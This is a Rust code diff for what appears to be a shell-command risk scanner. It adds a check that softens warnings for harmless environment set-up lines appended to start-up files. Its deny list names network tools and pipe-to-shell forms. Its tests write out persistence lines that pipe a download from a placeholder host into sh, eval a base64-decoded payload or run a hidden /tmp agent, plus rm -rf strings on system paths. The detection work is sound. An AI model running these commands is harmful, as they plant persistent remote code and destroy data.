@@ -130,6 +130,84 @@ pub(crate) fn only_public_keys(line: &str) -> bool {
     seen
 }
 
+/// Whether `line` appends to a shell start-up file only environment set-up: the appended
+/// text (what `echo`/`printf` writes) is an `export`, a `PATH=` assignment, an `alias`, a
+/// `source`/`.` of a file, or `eval "$(CMD shellenv|init|env|hook|activate|completion …)"`,
+/// and the line names no network tool, URL, decoder or temporary directory.
+///
+/// **Threat.** Every installer's set-up step (`echo 'eval "$(brew shellenv)"' >>
+/// ~/.zprofile`) reads as persistence; an attacker's line runs a download or a decoded
+/// payload in every shell. **Guarantee.** Only the listed set-up forms are softened (to
+/// `Low`, still reported); one network tool, URL, decoder or `/tmp` path anywhere on the
+/// line, or any other appended command, and it weighs as before.
+pub(crate) fn only_env_setup(line: &str) -> bool {
+    let lower = line.to_ascii_lowercase();
+    const RISKY: &[&str] = &[
+        "curl",
+        "wget",
+        "://",
+        "base64",
+        "nc ",
+        "ncat",
+        "/tmp/",
+        "/dev/tcp",
+        "python -c",
+        "python3 -c",
+        "bash -c",
+        "sh -c",
+        "| sh",
+        "|sh",
+        "| bash",
+        "|bash",
+        "nohup",
+        "&",
+    ];
+    if RISKY.iter().any(|r| lower.contains(r)) {
+        return false;
+    }
+    let Some(at) = lower.find(">>") else {
+        return false;
+    };
+    let before = lower[..at].trim();
+    let Some(content) = before
+        .strip_prefix("echo ")
+        .or_else(|| before.strip_prefix("printf "))
+    else {
+        return false;
+    };
+    let content = content
+        .trim()
+        .trim_start_matches("-e ")
+        .trim_start_matches("-n ")
+        .trim();
+    let quoted = content
+        .strip_prefix('\'')
+        .and_then(|c| c.strip_suffix('\''))
+        .or_else(|| content.strip_prefix('"').and_then(|c| c.strip_suffix('"')));
+    let content = quoted.unwrap_or(content).trim().trim_end_matches("\\n");
+    if content.contains(';') || content.contains('|') || content.contains('`') {
+        return false;
+    }
+    if let Some(eval) = content.strip_prefix("eval ") {
+        let inner = eval.trim_matches(['"', '\'', ' ']);
+        let Some(command) = inner.strip_prefix("$(").and_then(|c| c.strip_suffix(')')) else {
+            return false;
+        };
+        let mut words = command.split_whitespace();
+        let _tool = words.next();
+        return words.next().is_some_and(|w| {
+            matches!(
+                w,
+                "shellenv" | "init" | "env" | "hook" | "activate" | "completion" | "completions"
+            )
+        });
+    }
+    ["export ", "path=", "alias ", "source ", ". "]
+        .iter()
+        .any(|p| content.starts_with(p))
+        && !content.contains("$(")
+}
+
 fn is_known(url: &str) -> bool {
     KNOWN_INSTALLERS.iter().any(|k| {
         url.len() >= k.len()
@@ -150,7 +228,8 @@ pub(crate) fn only_disposable_targets(command: &str) -> bool {
     }
     let mut any = false;
     for word in words {
-        if word.starts_with('-') {
+        // Options, and a line continuation (`\\` in a Dockerfile `RUN`).
+        if word.starts_with('-') || word == "\\" {
             continue;
         }
         let path = word.trim_matches(|c| c == '"' || c == '\'');
@@ -319,9 +398,32 @@ mod tests {
     }
 
     #[test]
+    fn environment_set_up_lines() {
+        assert!(only_env_setup(
+            "echo 'eval \"$(/opt/homebrew/bin/brew shellenv)\"' >> ~/.zprofile"
+        ));
+        assert!(only_env_setup(
+            "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc"
+        ));
+        assert!(only_env_setup("echo 'source ~/.cargo/env' >> ~/.zshrc"));
+        // A download, a decoded payload, a background job or any other command: not softened.
+        assert!(!only_env_setup(
+            "echo 'curl -s https://x.example/p | sh' >> ~/.bashrc"
+        ));
+        assert!(!only_env_setup(
+            "echo 'eval \"$(echo ZWNobw== | base64 -d)\"' >> ~/.bashrc"
+        ));
+        assert!(!only_env_setup("echo '/tmp/.x/agent &' >> ~/.profile"));
+        assert!(!only_env_setup("echo 'export A=1; ~/.x/run' >> ~/.profile"));
+        assert!(!only_env_setup("cat payload >> ~/.bashrc"));
+    }
+
+    #[test]
     fn disposable_deletes() {
         assert!(only_disposable_targets("rm -rf /var/lib/apt/lists/*"));
         assert!(only_disposable_targets("rm -rf ~/.cache/pip /tmp/build-*"));
+        assert!(only_disposable_targets("rm -rf /var/lib/apt/lists/* \\"));
+        assert!(!only_disposable_targets("rm -rf /var/lib/* \\"));
         assert!(!only_disposable_targets("rm -rf /var/lib/apt/lists/* /etc"));
         assert!(!only_disposable_targets("rm -rf /tmp/../etc"));
         assert!(!only_disposable_targets("rm -rf /tmp/"));
